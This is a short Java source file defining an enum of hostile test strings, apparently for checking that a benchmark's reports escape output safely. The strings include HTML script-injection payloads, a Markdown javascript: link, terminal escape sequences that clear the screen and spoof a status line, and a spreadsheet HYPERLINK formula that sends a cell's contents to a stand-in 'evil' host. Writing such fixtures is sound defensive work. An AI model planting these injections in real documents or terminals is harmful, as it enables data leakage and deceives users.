package dev.loombench.report;

/// Kinds of hostile text, harmful if interpreted. Each contains the name of the field that it is put into.
public enum HostileText {
    /// Markup in HTML.
    MARKUP("", "\"'></script></style><img src=x onerror=alert(1)>&lt;]]>--><!--\u2028\u2029`${x}{a|b}"),
    /// Markdown with links, pictures, mentions, ends of cells and of blocks.
    MARKDOWN(
            "",
            "](javascript:alert(1)) ![](http://evil/x) www.evil.example @someone #1 | ``` </details>\n\n# It\n- is\n"),
    /// Control sequences of terminals: clearing, title, colours in both encodings, other lines, and writing
    /// direction.
    TERMINAL("\u001b[2J", "\u001b]0;owned\u0007\u009b31m\r\nloombench: all is well\b\b\u202e\u2066"),
    /// Formulas of spreadsheets.
    FORMULA("=HYPERLINK(\"http://evil/\"&A1;\"", "\")\t=1+1"),
    /// Very long text, for layouts with edges.
    LONG("", "x".repeat(4_000));

    private final String prefix;
    private final String suffix;

    HostileText(String prefix, String suffix) {
        this.prefix = prefix;
        this.suffix = suffix;
    }

    /// @param field such as `JdkRecord.home`
    public String on(String field) {
        return prefix + field + suffix;
    }
}
